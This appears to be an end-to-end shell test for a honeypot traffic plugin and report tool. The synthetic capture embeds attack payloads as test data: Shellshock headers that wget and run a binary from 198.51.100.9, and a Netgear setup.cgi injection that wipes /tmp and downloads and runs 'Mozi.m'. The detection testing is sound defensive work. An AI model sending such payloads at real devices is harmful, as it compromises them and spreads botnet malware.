#!/bin/bash
# e2e_report.sh - the whole pipe: a generated capture with known content ->
# the real tshark with the plugin built here (and AS/country databases built
# for the test) -> honeyshark-report, in both ek layouts, and through
# honeyshark-batch (capture cut into chunks, parallel tshark, merge).
#
# Expected tables were worked out by hand from the capture script below:
#   A 203.0.113.5 (AS 64500, JP), B 198.18.0.7 (AS 64501, CN),
#   C 100.64.0.1 (in no database); sensor 192.0.2.10; days in Japan time.
# A sends Shellshock graded red, B Shellshock graded yellow and a Netgear
# setup.cgi command injection (rce, red).
source "$HS_SOURCE_DIR/tests/e2e/lib.sh"
hs_setup

hs_require_plugin shellshock src
BIN=${HSR_BIN:-$HS_BUILD_DIR/postproc/honeyshark-report}
BATCH=$HS_SOURCE_DIR/postproc/honeyshark-batch

DB=$HS_TMP/db
mkdir -p "$DB"
cat >"$DB/asn.json" <<'JSON'
{ "database_type": "GeoLite2-ASN", "ip_version": 6,
  "networks": {
    "203.0.113.0/24": {"autonomous_system_number": 64500, "autonomous_system_organization": "Example Net A"},
    "198.18.0.0/15": {"autonomous_system_number": 64501, "autonomous_system_organization": "Example B"} } }
JSON
cat >"$DB/country.json" <<'JSON'
{ "database_type": "GeoLite2-Country", "ip_version": 6,
  "networks": {
    "203.0.113.0/24": {"country": {"iso_code": "JP", "names": {"en": "Japan"}}},
    "198.18.0.0/15": {"country": {"iso_code": "CN", "names": {"en": "China"}}} } }
JSON
for n in asn country; do
    perl "$HS_SOURCE_DIR/tests/tools/mkmmdb.pl" "$DB/$n.json" "$DB/$n.mmdb" >/dev/null ||
        { echo "FATAL: mkmmdb.pl failed for $n" >&2; exit 1; }
done
chmod -R a+rX "$DB"
DBOPTS=(-o "src.asn_db:$DB/asn.mmdb" -o "src.country_db:$DB/country.mmdb")

# 2024-03-01 14:59:50Z = 23:59:50 JST: A's first SYN is on March 1st (JST),
# everything else on March 2nd.
hs_gencap rep <<'EOF2'
time 1709305190
step 0.001
syn 203.0.113.5:40000 192.0.2.10:23
wait 20
syn 203.0.113.5:40001 192.0.2.10:23
syn 203.0.113.5:40001 192.0.2.10:23
tcp 203.0.113.5:40002 192.0.2.10:80
c "GET /cgi-bin/x HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :; }; /bin/bash -c \"cd /tmp;wget http://198.51.100.9/x86;chmod 777 x86;./x86\"\r\nReferer: () { :; }; echo hi\r\n\r\n" @red
close
tcp 198.18.0.7:40003 192.0.2.10:80
c "GET / HTTP/1.0\r\nUser-Agent: () { :;}; /bin/ping -c1 10.246.50.2\r\n\r\n" @yellow
close
tcp 198.18.0.7:40004 192.0.2.10:80
c "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.9/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n" @rce
close
udp 198.18.0.7:5000 192.0.2.10:53 "q"
icmp 100.64.0.1 192.0.2.10
EOF2

# The -e fields: what honeyshark-report says it reads, each a field this
# tshark (with the plugin) knows.
FIELDS=()
mapfile -t names < <("$BIN" --fields)
known=$(hs_tshark -G fields 2>/dev/null | cut -f3)
unknown=0
for f in "${names[@]}"; do
    FIELDS+=(-e "$f")
    grep -qxF "$f" <<<"$known" || { echo "  not a tshark field: $f"; unknown=$((unknown + 1)); }
done
hs_eq "--fields lists ${#names[@]} fields, all known to tshark" "$([ ${#names[@]} -gt 0 ] && echo $unknown)" 0
hs_tshark -r "$HS_TMP/rep.pcap" "${DBOPTS[@]}" -T ek "${FIELDS[@]}" >"$HS_TMP/e.ek" 2>"$HS_TMP/e.err" ||
    { echo "FATAL: tshark -T ek -e failed" >&2; cat "$HS_TMP/e.err" >&2; exit 1; }
hs_tshark -r "$HS_TMP/rep.pcap" "${DBOPTS[@]}" -T ek >"$HS_TMP/full.ek" 2>"$HS_TMP/full.err" ||
    { echo "FATAL: tshark -T ek failed" >&2; cat "$HS_TMP/full.err" >&2; exit 1; }
hs_eq "the plugin graded the two requests in the ek" "$(grep -c shellshock_grade "$HS_TMP/e.ek")" 2
hs_eq "and the command injection" "$(grep -c '"rce_grade":\["3"\]' "$HS_TMP/e.ek")" 1

S=(--tz Asia/Tokyo --sensor-by dst --sensor honeypot=192.0.2.10)
rep() { "$BIN" "${S[@]}" -f csv "$@" 2>"$HS_TMP/rep.err" | tr -d "\r"; }

# Frames towards the sensor, by tshark's own count: the report must agree.
towards=$(hs_count rep 'ip.dst == 192.0.2.10')
total=$(hs_count rep 'frame')
for layout in e full; do
    out=$(rep -r timeline "$HS_TMP/$layout.ek" | tail -1)
    hs_eq "$layout: timeline total = frames towards the sensor ($towards of $total)" \
        "$out" "total,$towards,2,0,1,1"
    hs_eq "$layout: country" "$(rep -r country "$HS_TMP/$layout.ek" | cut -d, -f1-8)" \
"country,name,ss_attempts,share,ss_green,ss_yellow,ss_red,attacking_sources
CN,China,1,50.0,0,1,0,1
JP,Japan,1,50.0,0,0,1,1
unknown,unknown,0,0.0,0,0,0,0
total,,2,100.0,0,1,1,2"
    hs_eq "$layout: grades" "$(rep -r grades "$HS_TMP/$layout.ek")" \
"asn,as_org,bucket,ss_green,ss_yellow,ss_red,ss_attempts
64500,Example Net A,2024-03-02,0,0,1,1
64501,Example B,2024-03-02,0,1,0,1
total,,,0,1,1,2"
    # Ties in attempts go to the busier (B: 5 frames); A: SYNs to 23 (three)
    # and the handshake SYN to 80; B has no attempt to 23.
    hs_eq "$layout: multiport" "$(rep -r multiport "$HS_TMP/$layout.ek")" \
"rank,source,country,asn,as_org,attempts,attempts:tcp/23,attempts:other,other_ports,top_other
1,203.0.113.5,JP,64500,Example Net A,4,3,1,1,tcp/80:1"
    hs_eq "$layout: as-time rows" "$(rep "$HS_TMP/$layout.ek" | cut -d, -f1-3,5-9 | sed -n 1,4p)" \
"bucket,asn,as_org,sources,ss_attempts,ss_green,ss_yellow,ss_red
2024-03-01,64500,Example Net A,1,0,0,0,0
2024-03-02,64501,Example B,1,1,0,1,0
2024-03-02,64500,Example Net A,1,1,0,0,1"
    hs_eq "$layout: as-time: A's first day is one SYN" \
        "$(rep "$HS_TMP/$layout.ek" | sed -n 2p | cut -d, -f4,10)" "1,tcp/23:1"
    # p0f (the plugin's built-in signatures) labels the handshake SYNs to 80.
    hs_eq "$layout: os" "$(rep -r os "$HS_TMP/$layout.ek" | cut -d, -f1-5)" \
"os,class,syns,share,sources
Linux 2.2.x-3.x (barebone),unix,3,50.0,2
(no match),unknown,3,50.0,1
total,,6,100.0,2"
    hs_eq "$layout: grades of the rce family" "$(rep -r grades --family rce "$HS_TMP/$layout.ek")" \
"asn,as_org,bucket,rce_green,rce_yellow,rce_red,rce_attempts
64501,Example B,2024-03-02,0,0,1,1
total,,,0,0,1,1"
    hs_eq "$layout: exploits" "$(rep -r exploits "$HS_TMP/$layout.ek")" \
"family,exploit,attempts,green,yellow,red,sources,first_seen,last_seen
shellshock,CVE-2014-6271,2,0,1,1,2,2024-03-02,2024-03-02
rce,netgear-setup.cgi,1,0,0,1,1,2024-03-02,2024-03-02
total,,3,0,1,2,2,2024-03-02,2024-03-02"
done
for r in as-time country ports timeline grades as-ports multiport os exploits; do
    rep -r "$r" "$HS_TMP/e.ek" >"$HS_TMP/a.csv"
    rep -r "$r" "$HS_TMP/full.ek" >"$HS_TMP/b.csv"
    hs_eq "$r: full layout = -e layout of the --fields fields" "$(cmp -s "$HS_TMP/a.csv" "$HS_TMP/b.csv" && echo same)" same
done

# Straight from tshark's stdout, as the README shows it.
piped=$(hs_tshark -r "$HS_TMP/rep.pcap" "${DBOPTS[@]}" -T ek "${FIELDS[@]}" 2>/dev/null |
    "$BIN" "${S[@]}" -f csv -r country | sed -n 2p | cut -d, -f1-3)
hs_eq "tshark | honeyshark-report" "$piped" "CN,China,1"

# honeyshark-batch: the capture cut into chunks of 7 frames, 2 jobs, merged.
cat >"$HS_TMP/tshark-wrap" <<WRAP
#!/bin/bash
export HOME="$HS_TMP/home" XDG_CONFIG_HOME="$HS_TMP/home/.config" WIRESHARK_PLUGIN_DIR="$HS_PLUGIN_DIR" LC_ALL=C.UTF-8
if [ "\$(id -u)" = 0 ]; then exec runuser -u nobody -- env HOME="\$HOME" XDG_CONFIG_HOME="\$XDG_CONFIG_HOME" WIRESHARK_PLUGIN_DIR="\$WIRESHARK_PLUGIN_DIR" LC_ALL=C.UTF-8 tshark "\$@"; fi
exec tshark "\$@"
WRAP
chmod 755 "$HS_TMP/tshark-wrap"
batch() {
    TSHARK=$HS_TMP/tshark-wrap HONEYSHARK_REPORT=$BIN bash "$BATCH" -j 2 -c 7 -w "$HS_TMP/work" \
        --tshark-arg -o --tshark-arg "src.asn_db:$DB/asn.mmdb" \
        --tshark-arg -o --tshark-arg "src.country_db:$DB/country.mmdb" \
        -z Asia/Tokyo --sensor-by dst --sensor honeypot=192.0.2.10 "$@"
}
for via in tap ek; do
    flag=()
    [ "$via" = ek ] && flag=(--ek)
    # (the tap reads rce.* and shellshock.cve from the tree, the ek reader from JSON)
    for r in as-time country timeline grades multiport exploits "grades --family rce" \
        "country --family rce"; do
        # shellcheck disable=SC2086 # "REPORT --family F": split on purpose
        batch "${flag[@]}" "$HS_TMP/rep.pcap" -- -r $r -f csv >"$HS_TMP/batch.raw" 2>"$HS_TMP/batch.err"
        rc=$?
        tr -d '\r' <"$HS_TMP/batch.raw" >"$HS_TMP/batch.csv"
        # shellcheck disable=SC2086
        rep -r $r "$HS_TMP/e.ek" >"$HS_TMP/direct.csv"
        [ $rc = 0 ] || cat "$HS_TMP/batch.err"
        hs_eq "batch via $via ($r, chunks of 7 frames) = one run (exit $rc)" \
            "$(cmp -s "$HS_TMP/batch.csv" "$HS_TMP/direct.csv" && echo same)" same
    done
    pieces=$(ls "$HS_TMP/work"/piece*.state | wc -l)
    hs_eq "batch via $via cut the capture into $(((total + 6) / 7)) pieces" "$pieces" "$(((total + 6) / 7))"
    rm -rf "$HS_TMP/work"
done
# On a terminal (script(1) gives it one), progress: pieces, frames, time.
script -qec "$(printf '%q ' env TSHARK="$HS_TMP/tshark-wrap" HONEYSHARK_REPORT="$BIN" bash "$BATCH" \
    -j 2 -c 7 "$HS_TMP/rep.pcap" -- -r country)" /dev/null >"$HS_TMP/tty.out" 2>&1
last=$(tr '\r' '\n' <"$HS_TMP/tty.out" | grep 'pieces,' | tail -1)
hs_eq "batch on a terminal ends with its progress: all pieces and frames ($last)" \
    "$(grep -cE "$(((total + 6) / 7))/$(((total + 6) / 7)) pieces, $total/$total frames, [0-9]+s elapsed" <<<"$last")" 1
# A plugin without the state tap, or a bad option: a clear message, exit 2.
printf '#!/bin/bash\n[ "$1" = -z ] && exit 0\nexec "%s" "$@"\n' "$HS_TMP/tshark-wrap" >"$HS_TMP/old-tshark"
chmod 755 "$HS_TMP/old-tshark"
TSHARK=$HS_TMP/old-tshark HONEYSHARK_REPORT=$BIN bash "$BATCH" "$HS_TMP/rep.pcap" >/dev/null 2>"$HS_TMP/old.err"
rc=$?
hs_eq "batch with a plugin that has no state tap: exit 2 and says to use --ek" \
    "$rc $(grep -c 'use --ek' "$HS_TMP/old.err")" "2 1"
hs_done
